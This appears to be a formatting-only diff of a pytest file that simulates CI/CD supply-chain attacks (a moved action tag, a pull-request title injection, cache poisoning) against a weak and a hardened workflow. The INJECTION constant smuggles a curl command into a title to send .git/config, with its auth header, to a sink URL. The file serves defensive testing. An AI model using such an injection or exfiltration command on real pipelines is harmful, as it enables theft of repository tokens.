@@ -81,9 +81,7 @@ def pull(
 def moved_tag(world: World, sink: Sink) -> None:
     """The owner of `acme/changed-files` lost a token: v3 points to a commit that steals."""
     world.ci.platform.mirror.reset()
-    world.ci.platform.mirror.move_tag(
-        "acme/changed-files", "v3", {"action.yml": (STEAL % sink.url).encode()}
-    )
+    world.ci.platform.mirror.move_tag("acme/changed-files", "v3", {"action.yml": (STEAL % sink.url).encode()})
 
 
 CI = Path(".github/workflows/ci.yml")
@@ -99,9 +97,7 @@ def weak(triage: Callable[[str], Project], shorten: Callable[[Path], None]) -> P
 
 
 @pytest.mark.usefixtures("moved_tag")
-def test_a_moved_tag_steals_the_token_of_the_weak_workflow(
-    weak: Project, sink: Sink, world: World
-) -> None:
+def test_a_moved_tag_steals_the_token_of_the_weak_workflow(weak: Project, sink: Sink, world: World) -> None:
     run = weak.run("push", workflow="ci.yml", ports=[sink.port])
     assert run.result == "success", run.log  # nobody sees anything
     (header,) = set(re.findall(r"[Bb]asic (\S+)", sink.text))
@@ -124,9 +120,7 @@ def test_a_pinned_action_is_not_moved(weak: Project, sink: Sink, world: World) -
 
 
 @pytest.mark.usefixtures("moved_tag")
-def test_the_hardened_workflow_gives_a_moved_tag_nothing(
-    triage: Callable[[str], Project], sink: Sink
-) -> None:
+def test_the_hardened_workflow_gives_a_moved_tag_nothing(triage: Callable[[str], Project], sink: Sink) -> None:
     project = triage("hardened")
     assert project.run("push", workflow="ci.yml", ports=[sink.port]).result == "success"
     assert sink.received == []
@@ -135,9 +129,7 @@ def test_the_hardened_workflow_gives_a_moved_tag_nothing(
 INJECTION = 'x"; curl --silent --noproxy \'*\' --data-binary "$(cat .git/config)" %s; echo "'
 
 
-def test_a_title_runs_as_code_in_the_weak_workflow(
-    weak: Project, sink: Sink, tmp_path: Path
-) -> None:
+def test_a_title_runs_as_code_in_the_weak_workflow(weak: Project, sink: Sink, tmp_path: Path) -> None:
     change = pull(weak, tmp_path, title=INJECTION % sink.url, files={"README.md": "a typo"})
     weak.run("pull_request_target", pull=change, workflow="label.yml", ports=[sink.port])
     assert "extraheader" in sink.text.lower()
@@ -177,9 +169,7 @@ def wheel_of(world: World, project: Project, tag: str) -> set[str]:
         return set(wheel.namelist())
 
 
-def test_a_poisoned_cache_changes_what_the_weak_release_publishes(
-    world: World, weak: Project, tmp_path: Path
-) -> None:
+def test_a_poisoned_cache_changes_what_the_weak_release_publishes(world: World, weak: Project, tmp_path: Path) -> None:
     change = pull(weak, tmp_path, files={"tests/size.py": POISON})
     main = "refs/heads/main"
     assert poisoned(world, weak, change, "pull_request_target", "current") == []
@@ -187,17 +177,13 @@ def test_a_poisoned_cache_changes_what_the_weak_release_publishes(
     assert "triage_model/marker.txt" in wheel_of(world, weak, "v1.4.0")
 
 
-def test_a_pull_request_never_writes_the_default_branchs_cache(
-    world: World, weak: Project, tmp_path: Path
-) -> None:
+def test_a_pull_request_never_writes_the_default_branchs_cache(world: World, weak: Project, tmp_path: Path) -> None:
     bench = weak.folder / ".github/workflows/bench.yml"
     bench.write_text(bench.read_text().replace("pull_request_target:", "pull_request:"))
     weak.commit("on pull_request")
     change = pull(weak, tmp_path, files={"tests/size.py": POISON})
     for rule in ("before-2026-06-26", "current"):
-        assert poisoned(world, weak, change, "pull_request", rule) == [
-            f"refs/pull/{change.number}/merge"
-        ]
+        assert poisoned(world, weak, change, "pull_request", rule) == [f"refs/pull/{change.number}/merge"]
 
 
 def test_the_hardened_release_restores_nothing(
